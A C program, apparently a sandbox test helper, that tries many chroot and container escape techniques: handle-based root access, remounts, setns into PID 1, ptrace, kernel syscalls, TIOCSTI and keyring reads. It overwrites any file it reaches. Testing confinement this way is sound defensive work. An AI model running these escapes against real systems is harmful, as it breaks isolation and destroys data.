/*
 * Ways out of a root and of namespaces that take system calls which no shell has. Each is tried as `escape WAY ARGUMENT…`;
 * one that leads somewhere prints what it has read there, or REACHED.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <unistd.h>

static void reached(const char *what) { printf("REACHED %s\n", what); }

/* Prints a file, and writes to it. */
static void use(int folder, const char *path) {
  char bytes[4096];
  int fd = openat(folder, path, O_RDONLY);
  ssize_t size = fd < 0 ? -1 : read(fd, bytes, sizeof bytes);
  if (size > 0) fwrite(bytes, 1, (size_t)size, stdout);
  fd = openat(folder, path, O_WRONLY | O_TRUNC);
  if (fd >= 0 && write(fd, "overwritten\n", 12) == 12) reached(path);
}

static void climb(const char *path) {
  for (int i = 0; i < 64; i++) chdir("..");
  chroot(".");
  use(AT_FDCWD, path);
}

/* Out of a chroot by one within it: the working folder, or a folder held open, is outside of it. */
static void chrootTwice(const char *path) {
  int outside = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("/inner", 0755);
  if (chroot("/inner") == 0) climb(path);
  if (fchdir(outside) == 0) climb(path);
}

static void descriptors(const char *path) {
  for (int fd = 0; fd < 1024; fd++) {
    char bytes[4096], up[5000];
    ssize_t size = fd > 2 ? pread(fd, bytes, sizeof bytes, 0) : 0;
    if (size > 0) fwrite(bytes, 1, (size_t)size, stdout);
    snprintf(up, sizeof up, "../../../../../../../../../..%s", path);
    use(fd, up);
  }
}

/* The root of an ext file system is its inode 2. */
static void handles(const char *path) {
  const char *const mounts[] = {"/", "/dev/laminix", "/dev/null", "/proc", "/sys", "/dev"};
  for (size_t i = 0; i < sizeof mounts / sizeof *mounts; i++) {
    struct {
      struct file_handle handle;
      unsigned ids[2];
    } root = {{8, 1}, {2, 0}};
    int mount = open(mounts[i], O_RDONLY);
    int fd = open_by_handle_at(mount, &root.handle, O_RDONLY | O_DIRECTORY);
    if (fd < 0) continue;
    reached(mounts[i]);
    use(fd, path + 1);
  }
}

static void mounting(void) {
  mkdir("/mounted", 0755);
  const char *const kinds[] = {"proc", "sysfs", "devtmpfs", "cgroup", "cgroup2", "tmpfs", "debugfs", "securityfs"};
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++)
    if (mount(kinds[i], "/mounted", kinds[i], 0, "") == 0) reached(kinds[i]);
  if (mount("/dev", "/mounted", NULL, MS_BIND, NULL) == 0) reached("a bind");
  const char *const places[] = {"/proc/sys", "/proc/sysrq-trigger", "/sys", "/dev/null", "/dev/laminix", "/"};
  for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
    if (mount(NULL, places[i], NULL, MS_REMOUNT | MS_BIND, NULL) == 0) reached(places[i]);
    if (strcmp(places[i], "/") != 0 && umount2(places[i], MNT_DETACH) == 0) reached(places[i]);
  }
  if (syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */) >= 0) reached("open_tree");
  if (syscall(SYS_fsopen, "proc", 0) >= 0) reached("fsopen");
}

/* Rights over namespaces that are its own; then those over mounts. */
static void namespaces(void) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) {
    reached("a user namespace");
    mounting();
  }
  long child = syscall(SYS_clone, CLONE_NEWUSER | 17 /* SIGCHLD */, NULL, NULL, NULL, NULL);
  if (child >= 0) reached("a user namespace");
  unsigned long long how[11] = {CLONE_NEWUSER, 0, 0, 0, 17};
  if (child != 0 && syscall(SYS_clone3, how, sizeof how) >= 0) reached("a user namespace");
  const char *const kinds[] = {"mnt", "pid", "net", "user", "ipc", "cgroup"};
  for (size_t i = 0; i < sizeof kinds / sizeof *kinds; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/1/ns/%s", kinds[i]);
    int fd = open(path, O_RDONLY);
    if (fd >= 0 && setns(fd, 0) == 0) reached(path);
  }
}

/* The first process of the namespaces is not this one's to look into. */
static void processes(void) {
  char byte;
  struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};
  if (ptrace(PTRACE_ATTACH, 1, NULL, NULL) == 0 || ptrace(PTRACE_SEIZE, 1, NULL, NULL) == 0) reached("ptrace");
  if (syscall(SYS_process_vm_readv, 1, &here, 1L, &there, 1L, 0L) >= 0) reached("process_vm_readv");
  if (open("/proc/1/mem", O_RDWR) >= 0) reached("/proc/1/mem");
  int fd = (int)syscall(434 /* pidfd_open */, 1, 0);
  for (int other = 0; fd >= 0 && other < 16; other++)
    if (syscall(438 /* pidfd_getfd */, fd, other, 0) >= 0) reached("a descriptor of the first process");
}

/* Anything but a denial has been let through. */
static void kernel(void) {
  char nothing[128] = {0};
  if (syscall(SYS_init_module, nothing, 1L, "") == 0 || errno != EPERM) reached("init_module");
  if (syscall(SYS_finit_module, 0, "", 0) == 0 || errno != EPERM) reached("finit_module");
  if (syscall(SYS_bpf, 0, nothing, sizeof nothing) >= 0 || errno != EPERM) reached("bpf");
  if (syscall(SYS_perf_event_open, nothing, 0, -1, -1, 0L) >= 0 || errno != EPERM) reached("perf_event_open");
  if (syscall(SYS_userfaultfd, 1) >= 0 || errno != EPERM) reached("userfaultfd");
  if (syscall(SYS_io_uring_setup, 1, nothing) >= 0 || errno != EPERM) reached("io_uring");
  if (syscall(SYS_kexec_load, 0L, 0L, NULL, 0L) == 0 || errno != EPERM) reached("kexec_load");
  if (ioctl(0, TIOCSTI, "x") == 0 || errno != EPERM) reached("TIOCSTI");
  if (socket(AF_VSOCK, SOCK_STREAM, 0) >= 0 || errno != EAFNOSUPPORT) reached("AF_VSOCK");
#if defined(__x86_64__)
  /* getpid by the interface of 32 bits, whose numbers are others. */
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(20L) : "memory", "r8", "r9", "r10", "r11");
  if (result > 0) reached("system calls of 32 bits");
#endif
}

/* Of the session, and of the user. */
static void keys(const char *name) {
  const int rings[] = {KEY_SPEC_SESSION_KEYRING, KEY_SPEC_USER_KEYRING, KEY_SPEC_USER_SESSION_KEYRING};
  for (size_t i = 0; i < sizeof rings / sizeof *rings; i++) {
    char value[4096];
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, rings[i], "user", name, 0);
    long size = key < 0 ? -1 : syscall(SYS_keyctl, KEYCTL_READ, key, value, sizeof value);
    if (size > 0) printf("%.*s\n", (int)size, value);
  }
}

/* Whatever the modes of files, none can be written to where the file system is read-only. */
static void writable(char **paths) {
  for (; *paths != NULL; paths++)
    if (access(*paths, W_OK) == 0) reached(*paths);
}

/* Keeps what a variable has in this session's keyring, and becomes another program. */
static void holdKey(char **arguments) {
  const char *value = getenv("FENCE_TOKEN");
  syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
  syscall(SYS_add_key, "user", arguments[0], value, strlen(value), KEY_SPEC_SESSION_KEYRING);
  execvp(arguments[1], arguments + 1);
}

static void abstractSocket(const char *name) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  memcpy(address.sun_path + 1, name, strlen(name));
  socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name));
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  char bytes[4096];
  if (connect(fd, (struct sockaddr *)&address, size) != 0) return;
  reached("an abstract socket");
  ssize_t got = read(fd, bytes, sizeof bytes);
  if (got > 0) fwrite(bytes, 1, (size_t)got, stdout);
}

/* What runs as root for others; it is left in the image, too. */
static void setuidProgram(void) {
  if (geteuid() != 0) return;
  if (getuid() != 0) {
    reached("root by a setuid program");
    return;
  }
  if (chmod("/bin/escape", 06755) != 0 || setgid(1000) != 0 || setuid(1000) != 0) return;
  execl("/bin/escape", "escape", "setuid", NULL);
}

int main(int count, char **arguments) {
  const char *way = count > 1 ? arguments[1] : "", *argument = count > 2 ? arguments[2] : "";
  setvbuf(stdout, NULL, _IONBF, 0);
  if (strcmp(way, "use") == 0) use(AT_FDCWD, argument);
  if (strcmp(way, "climb") == 0) climb(argument);
  if (strcmp(way, "chroot") == 0) chrootTwice(argument);
  if (strcmp(way, "descriptors") == 0) descriptors(argument);
  if (strcmp(way, "handles") == 0) handles(argument);
  if (strcmp(way, "mount") == 0) mounting();
  if (strcmp(way, "namespaces") == 0) namespaces();
  if (strcmp(way, "processes") == 0) processes();
  if (strcmp(way, "kernel") == 0) kernel();
  if (strcmp(way, "writable") == 0) writable(arguments + 2);
  if (strcmp(way, "keys") == 0) keys(argument);
  if (strcmp(way, "hold-key") == 0) holdKey(arguments + 2);
  if (strcmp(way, "abstract") == 0) abstractSocket(argument);
  if (strcmp(way, "setuid") == 0) setuidProgram();
  return 0;
}
